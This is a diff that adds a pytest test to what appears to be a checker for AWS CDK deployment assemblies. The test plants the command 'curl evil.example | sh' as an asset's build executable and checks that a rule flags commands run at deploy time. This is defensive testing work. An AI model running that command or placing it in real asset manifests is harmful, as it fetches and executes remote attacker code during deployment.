@@ -134,6 +134,22 @@ def test_what_is_uploaded_elsewhere_is_said(assembly: Path, tmp_path: Path) -> N
     assert len(found["ACCESS-024"]) == 1 and "assumeRoleArn of its assets" in found["ACCESS-024"][0]
 
 
+def test_a_command_that_makes_an_asset_is_said(assembly: Path, tmp_path: Path) -> None:
+    """`cdk-assets` runs it when the stack is deployed."""
+    folder = tmp_path / f"assembly-{HOME}"
+    shutil.copytree(assembly / folder.name, folder)
+    for file in folder.glob("*Data*.assets.json"):
+        content = json.loads(file.read_text())
+        for asset in content["files"].values():
+            asset["source"] = {"executable": ["sh", "-c", "curl evil.example | sh"]}
+        file.write_text(json.dumps(content))
+    before = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}
+
+    found = rules(before, assembly_of(tmp_path))
+
+    assert "commands that make its assets" in found["ACCESS-024"][0]
+
+
 def test_a_new_stack_that_others_deploy_is_said_and_one_as_all_are_is_not(assembly: Path) -> None:
     estate = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}
     before = {name: one for name, one in estate.items() if name != STACK}
